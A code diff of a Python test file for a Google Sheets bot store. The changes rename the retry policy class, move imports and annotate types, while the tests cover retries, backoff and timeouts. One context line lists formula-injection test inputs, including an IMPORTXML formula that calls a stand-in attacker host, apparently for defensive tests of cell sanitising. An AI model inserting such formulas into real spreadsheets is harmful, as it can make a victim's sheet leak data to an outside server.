@@ -15,13 +15,14 @@ from google.oauth2 import service_account
 from bot.errors import ConfigError, LimitError, StoreError
 from bot.stores import EnsureTab, ReplaceTab, UpsertRows
 from bot.stores.google_auth import BASE_SCOPES, KEY_JSON_ENV, load_credentials
-from bot.stores.google_retry import RetryPolicy
-from bot.targets import sheet_id
+from bot.stores.google_retry import GoogleRetryPolicy
+from bot.stores.opener import sheet_id
 from jobs.context import JobContext
-from jobs.registry import load_jobs
+from jobs.table import JOBS
 from sheets_schema import ALL_TABS, STATE_TAB
 from sheets_schema.tabs import IMPORTS, PROSPECTS
 from tests.fakes.google import Call, FakeGoogle
+from tests.fakes.sheets_model import Sheet
 from tests.fakes.team import google_store, paste_tabs
 
 FORMULA_STARTS = ["=1+1", "+SUM(A1:A2)", "-2+3", "@cmd", '=IMPORTXML("http://evil.example","//a")']
@@ -32,7 +33,7 @@ def fresh() -> tuple[FakeGoogle, str]:
     return fake, fake.create_spreadsheet()
 
 
-def sheet(fake: FakeGoogle, spreadsheet_id: str, title: str):  # type: ignore[no-untyped-def]
+def sheet(fake: FakeGoogle, spreadsheet_id: str, title: str) -> Sheet:
     return next(s for s in fake.book(spreadsheet_id).sheets if s.title == title)
 
 
@@ -122,7 +123,7 @@ def test_over_the_limit_unused_columns_are_shrunk_before_rows_are_added() -> Non
 
 
 def analyze_twice(fake: FakeGoogle, sid: str) -> None:
-    jobs = load_jobs()
+    jobs = JOBS
     store = google_store(fake, sid)
     clock = itertools.repeat(pd.Timestamp("2026-11-23 10:00", tz="UTC").to_pydatetime())
     for _ in range(2):
@@ -134,6 +135,7 @@ def all_values(fake: FakeGoogle, sid: str) -> dict[str, list[list[object]]]:
     return {s.title: [list(r) for r in s.rows] for s in fake.book(sid).sheets}
 
 
+@pytest.mark.slow
 def test_429_and_503_on_a_third_of_the_calls_give_the_same_sheet(tmp_path: Path) -> None:
     from tests.fakes.team import market_tabs
 
@@ -157,13 +159,13 @@ def test_a_failure_that_never_ends_stops_after_bounded_retries_with_a_clear_erro
     fake, sid = fresh()
     fake.faults.append(lambda call: 503)
     waits: list[float] = []
-    store = google_store(fake, sid, sleep=waits.append, policy=RetryPolicy(tries=4))
+    store = google_store(fake, sid, sleep=waits.append, policy=GoogleRetryPolicy(tries=4))
     with pytest.raises(StoreError) as caught:
         store.read_tabs(["Settings"])
     message = caught.value.message
     assert "GET spreadsheets/{id}" in message and "503" in message and "4 times" in message
     assert len(fake.api_calls()) == 4
-    assert len(waits) == 3 and all(0 <= w <= RetryPolicy().max_wait for w in waits)
+    assert len(waits) == 3 and all(0 <= w <= GoogleRetryPolicy().max_wait for w in waits)
 
 
 def test_timeouts_are_set_on_every_request_and_retried() -> None:
@@ -173,11 +175,11 @@ def test_timeouts_are_set_on_every_request_and_retried() -> None:
     store = google_store(fake, sid)
     store.commit([EnsureTab(PROSPECTS)])
     assert store.read_tab("Prospects") is not None
-    assert all(c.timeout == RetryPolicy().timeout for c in fake.calls)
+    assert all(c.timeout == GoogleRetryPolicy().timeout for c in fake.calls)
 
 
 def test_backoff_waits_grow_and_are_capped() -> None:
-    policy = RetryPolicy(first_wait=1, max_wait=8)
+    policy = GoogleRetryPolicy(first_wait=1, max_wait=8)
     assert [policy.wait(n, rand=lambda: 1.0) for n in range(6)] == [1, 2, 4, 8, 8, 8]
     assert policy.wait(3, rand=lambda: 0.25) == 2
 
@@ -257,7 +259,7 @@ def test_sheet_ids_are_taken_from_urls_too() -> None:
 
 
 def test_the_sheet_option_builds_a_google_store_once(monkeypatch: pytest.MonkeyPatch) -> None:
-    from bot.targets import open_store
+    from bot.stores.opener import open_store
 
     monkeypatch.setenv(KEY_JSON_ENV, json.dumps(service_account_info()))
     monkeypatch.delenv("GAPBOT_WORKBOOK", raising=False)
